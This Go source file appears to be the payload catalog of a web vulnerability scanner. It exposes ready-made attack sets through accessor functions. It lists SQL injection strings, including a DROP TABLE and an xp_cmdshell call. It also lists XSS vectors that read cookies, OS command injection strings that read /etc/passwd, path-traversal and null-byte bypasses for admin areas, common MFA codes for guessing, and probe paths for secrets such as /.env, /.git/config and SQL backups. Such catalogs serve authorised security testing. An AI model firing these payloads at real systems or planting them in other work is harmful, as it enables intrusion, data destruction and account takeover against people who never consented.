// Package payload holds the static attack-string catalog and the encoders
// used to produce payload variants.
package payload

// CatalogVersion identifies the revision of the built-in payload sets. It is
// bumped whenever a set changes so reports can be compared across runs.
const CatalogVersion = "2"

// sqlInjection is the SQL injection set. Entries containing SLEEP drive the
// time-based inference in the injector.
var sqlInjection = []string{
	"' OR '1'='1",
	"' OR 1=1--",
	"' OR 'a'='a",
	"'; DROP TABLE users;--",
	"' UNION SELECT username, password FROM users--",
	"' AND 1=1--",
	"' OR '1'='1' --",
	"'; EXEC xp_cmdshell('net user')--",
	"' UNION SELECT NULL, NULL--",
	"' AND SLEEP(5)--",
	"admin' --",
	"admin' #",
	"admin'/*",
	"' or 1=1 limit 1 --",
	"1' ORDER BY 1--+",
	"1' ORDER BY 2--+",
	"1' ORDER BY 3--+",
	"1' UNION SELECT NULL--",
	"1' UNION SELECT NULL,NULL--",
	"1' UNION SELECT NULL,NULL,NULL--",
}

var xss = []string{
	"<script>alert('XSS')</script>",
	"<script>alert(1)</script>",
	"<img src=x onerror=alert('XSS')>",
	"<img src=x onerror=alert(1)>",
	"<img src=x:alert(1) onerror=eval(src)>",
	"<svg onload=alert(1)>",
	"<svg/onload=alert(1)>",
	"<svg><script>alert(1)</script></svg>",
	"<body onload=alert(1)>",
	"<input onfocus=alert(1) autofocus>",
	"<details open ontoggle=alert(1)>",
	"<marquee onstart=alert(1)>",
	"<select autofocus onfocus=alert(1)>",
	"<iframe src=javascript:alert(1)>",
	"<iframe onload=alert(1)>",
	"';alert(String.fromCharCode(88,83,83))//",
	"<IMG SRC=# onmouseover=\"alert('xss')\">",
	"javascript:alert(1)",
	"javascript:alert(document.cookie)",
	"<img src=data:text/html,<script>alert(1)</script>>",
	"';alert(1)//",
	"\";alert(1)//",
	"<ScRiPt>alert(1)</ScRiPt>",
	"<IMG SRC=x OnErRoR=alert(1)>",
	"&#60;script&#62;alert(1)&#60;/script&#62;",
	"%3Cscript%3Ealert(1)%3C/script%3E",
	"\" onload=alert(1) x=\"",
	"' onload=alert(1) x='",
	"<script>console.log('XSS Vulnerability Found')</script>",
	"<img src=x onerror=console.log('XSS')>",
}

var command = []string{
	"; ls -la",
	"| whoami",
	"& dir",
	"`id`",
	"$(whoami)",
	"; cat /etc/passwd",
	"| cat /etc/passwd",
	"; ping -c 4 127.0.0.1",
	"& ping -n 4 127.0.0.1",
}

var wafBypass = []string{
	"admin_panel",
	"/admin",
	"../../admin",
	"/%2e%2e/admin",
	"/admin%00",
	"/admin.php",
	"/administrator",
	"/wp-admin",
	"/cpanel",
}

var mfaTokens = []string{
	"000000",
	"111111",
	"123456",
	"654321",
	"999999",
	"000001",
	"123123",
}

// endpoints is the enumeration candidate list, grouped by what it probes.
var endpoints = []string{
	// admin panels
	"/admin", "/administrator", "/admin.php", "/admin/login", "/admin/dashboard",
	"/wp-admin", "/cpanel", "/phpmyadmin", "/adminer", "/adminpanel",

	// authentication
	"/login", "/signin", "/login.php", "/auth", "/authenticate", "/user/login",
	"/account/login", "/users/login", "/session/new", "/sign-in",

	// dashboards
	"/dashboard", "/panel", "/console", "/home", "/portal",

	// APIs
	"/api", "/api/v1", "/api/v2", "/rest", "/graphql", "/api/users", "/api/auth",

	// configuration and debug
	"/config", "/debug", "/test", "/phpinfo.php", "/.env", "/config.php",
	"/settings", "/configuration",

	// well-known files
	"/robots.txt", "/sitemap.xml", "/.git/config", "/.htaccess",
	"/web.config", "/composer.json", "/package.json",

	// database tools
	"/db", "/database", "/mysql", "/adminer.php",

	// backups
	"/backup", "/backups", "/backup.sql", "/dump.sql", "/backup.zip",

	// uploads
	"/upload", "/uploads", "/files", "/media", "/images", "/assets",
}

// CommonParameters are tried on every target in addition to the parameters
// already present in its query string.
var commonParameters = []string{
	"id", "page", "query", "search", "q", "user", "username",
	"item", "cat", "category", "name", "data", "file",
}

// SQLInjection returns the SQL injection payload set.
func SQLInjection() []string { return clone(sqlInjection) }

// XSS returns the cross-site scripting payload set.
func XSS() []string { return clone(xss) }

// Command returns the OS command injection payload set.
func Command() []string { return clone(command) }

// WAFBypass returns the WAF bypass payload set.
func WAFBypass() []string { return clone(wafBypass) }

// MFATokens returns the MFA token guesses.
func MFATokens() []string { return clone(mfaTokens) }

// Endpoints returns the enumeration path candidates.
func Endpoints() []string { return clone(endpoints) }

// CommonParameters returns the fixed parameter names used by discovery.
func CommonParameters() []string { return clone(commonParameters) }

// clone returns a copy so callers can never mutate the catalog.
func clone(s []string) []string {
	out := make([]string, len(s))
	copy(out, s)
	return out
}
